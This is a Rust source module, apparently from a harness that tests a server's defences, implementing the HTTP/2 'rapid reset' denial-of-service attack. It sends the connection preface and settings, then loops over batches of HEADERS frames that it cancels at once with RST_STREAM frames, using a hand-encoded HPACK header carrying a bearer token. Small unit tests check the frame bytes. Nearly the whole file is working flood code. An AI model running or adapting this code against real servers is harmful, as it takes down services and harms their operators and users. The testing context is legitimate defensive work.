//! The rapid reset of HTTP/2: an authorized client opens streams and cancels them at once.

use std::io::{Read as _, Write as _};
use std::time::Duration;

use super::attacks::Attacker;
use super::connection::handshake;
use super::objects::MAPS;
use super::site::VIEWER;

/// Streams opened and reset before the client looks at the answers.
const BATCH: u32 = 100;
/// Batches of a connection.
const BATCHES: u32 = 1000;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
const CANCEL: u32 = 8;

/// Opens a connection and resets streams until the server closes it.
pub(super) fn round(attacker: &mut Attacker) -> anyhow::Result<()> {
    let site = attacker.site.clone();
    let mut stream = handshake(&site, &site.tls_h2, Duration::from_millis(1))?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    stream.write_all(&frame(SETTINGS, ACK, 0, &[]))?;
    let head = head();
    let mut answers = vec![0; 64 << 10];
    for batch in 0..BATCHES {
        let mut bytes = Vec::new();
        for at in 0..BATCH {
            let id = (batch * BATCH + at) * 2 + 1;
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &head));
            bytes.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
        }
        // The server closes the connection when the budget of the user is spent.
        if stream.write_all(&bytes).and_then(|()| stream.flush()).is_err() {
            return Ok(());
        }
        // The content of the answers does not matter, only that they are taken.
        match stream.read(&mut answers) {
            Ok(0) => return Ok(()),
            Ok(_) | Err(_) if site.is_over() => return Ok(()),
            Ok(_) | Err(_) => {}
        }
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The head of a list in HPACK: indexed method and scheme, literals without indexing otherwise.
fn head() -> Vec<u8> {
    const METHOD_GET: u8 = 0x82;
    const SCHEME_HTTPS: u8 = 0x87;
    const AUTHORITY: &[u8] = &[0x01];
    const PATH: &[u8] = &[0x04];
    const AUTHORIZATION: &[u8] = &[0x0f, 0x08]; // 23: the prefix of four bits, and the rest
    let mut bytes = vec![METHOD_GET, SCHEME_HTTPS];
    for (name, value) in [
        (AUTHORITY, "siege".to_owned()),
        (PATH, MAPS.to_owned()),
        (AUTHORIZATION, format!("Bearer {VIEWER}")),
    ] {
        bytes.extend(name);
        bytes.push(u8::try_from(value.len()).unwrap_or(0x7e)); // all are shorter than 127 bytes
        bytes.extend(value.bytes());
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_length_kind_flags_and_stream() {
        assert_eq!(frame(RST_STREAM, 0, 5, &CANCEL.to_be_bytes()), [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
        let head = head();
        assert_eq!(&head[..4], [0x82, 0x87, 0x01, 5]);
        assert!(head.ends_with(b"Bearer viewer"));
    }
}
